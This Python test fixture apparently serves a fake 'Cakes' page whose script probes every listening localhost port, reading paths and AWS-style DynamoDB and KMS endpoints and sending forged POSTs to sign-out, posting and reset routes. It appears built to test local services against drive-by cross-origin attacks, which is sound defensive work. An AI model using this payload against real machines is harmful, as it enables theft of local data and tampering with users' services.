"""A page of an attacker's own that somebody opens, and what its script can do to this machine.

The page knows every port that listens, which a script finds out within seconds. It asks each for
what could be read, sends what could change something, and writes down what it got.
"""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PATHS = ("/", "/app", "/app/posts", "/v1/accounts", "/v1/health", "/sandbox", "/sandbox/posts")
AWS = ("DynamoDB_20120810.Scan", "DynamoDB_20120810.ListTables", "TrentService.Decrypt")

_SCRIPT = """
async function tried(url, options) {
  try {
    const answer = await fetch(url, {credentials: 'include', ...options});
    return {url, type: answer.type, text: (await answer.text()).slice(0, 200)};
  } catch (error) {
    return {url, type: 'refused', text: ''};
  }
}
async function attack(ports, paths, calls) {
  const found = [];
  for (const port of ports) {
    for (const host of ['127.0.0.1', 'localhost']) {
      const origin = `http://${host}:${port}`;
      for (const path of paths) found.push(await tried(origin + path, {}));
      for (const call of calls) {
        const headers = {'X-Amz-Target': call, 'Content-Type': 'application/x-amz-json-1.0'};
        found.push(await tried(origin + '/', {method: 'POST', headers, body: '{}'}));
      }
      for (const path of ['/app/sign-out', '/v1/posts', '/app/posts', '/_ministack/reset']) {
        const body = new URLSearchParams({caption: 'drive-by'});
        await tried(origin + path, {method: 'POST', mode: 'no-cors', body});
      }
    }
  }
  return found;
}
"""


@contextmanager
def evil_page() -> Iterator[str]:
    """Serve the page; yield its address."""
    content = f"<title>Cakes</title><script>{_SCRIPT}</script>".encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def attack(ports: list[int]) -> str:
    """Return the expression that attacks from within the page."""
    return f"attack({json.dumps(ports)}, {json.dumps(PATHS)}, {json.dumps(AWS)})"
